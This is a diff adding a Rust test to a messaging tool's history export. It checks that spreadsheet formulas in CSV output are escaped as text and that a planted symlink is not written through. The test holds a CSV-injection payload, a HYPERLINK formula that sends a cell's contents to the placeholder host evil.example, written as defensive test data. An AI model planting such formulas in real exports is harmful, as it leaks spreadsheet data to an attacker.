@@ -164,6 +164,31 @@ fn export_writes_json_and_csv_that_survive_a_round_trip() {
     assert!(rows.iter().skip(1).all(|row| row.len() == rows[0].len()));
 }
 
+/// Others' text in an export: a cell a spreadsheet would run as a formula is shown as text, and
+/// a link planted where the file goes is replaced, not written through.
+#[test]
+fn an_export_neither_runs_formulas_nor_writes_through_a_link() {
+    let (home, alice, ..) = history_home();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    assert!(home.run_as(&alice, &["send", "bob", formula, "--no-response"]).status.success());
+    assert!(home.run_as(&alice, &["send", "bob", "@SUM(1+1)", "--no-response"]).status.success());
+    let rows = parse_csv(&home.ok(&["history", "export", "--format", "csv"]));
+    let input = rows[0].iter().position(|name| name == "input").unwrap();
+    let inputs: Vec<&str> = rows.iter().skip(1).map(|row| row[input].as_str()).collect();
+    assert!(inputs.contains(&format!("'{formula}").as_str()), "{inputs:?}");
+    assert!(inputs.contains(&"'@SUM(1+1)") && inputs.contains(&"deploy tonight"), "{inputs:?}");
+
+    let precious = home.dir.path().join("precious.txt");
+    std::fs::write(&precious, "mine").unwrap();
+    let planted = home.dir.path().join("export.json");
+    std::os::unix::fs::symlink(&precious, &planted).unwrap();
+    home.ok(&["history", "export", "--output", planted.to_str().unwrap()]);
+    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "mine", "written through the link");
+    assert!(!planted.symlink_metadata().unwrap().file_type().is_symlink());
+    let exported: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(&planted).unwrap()).unwrap();
+    assert_eq!(exported.len(), 8, "two records per message");
+}
+
 #[test]
 fn cleanup_asks_first_and_dry_run_changes_nothing() {
     let (home, ..) = history_home();
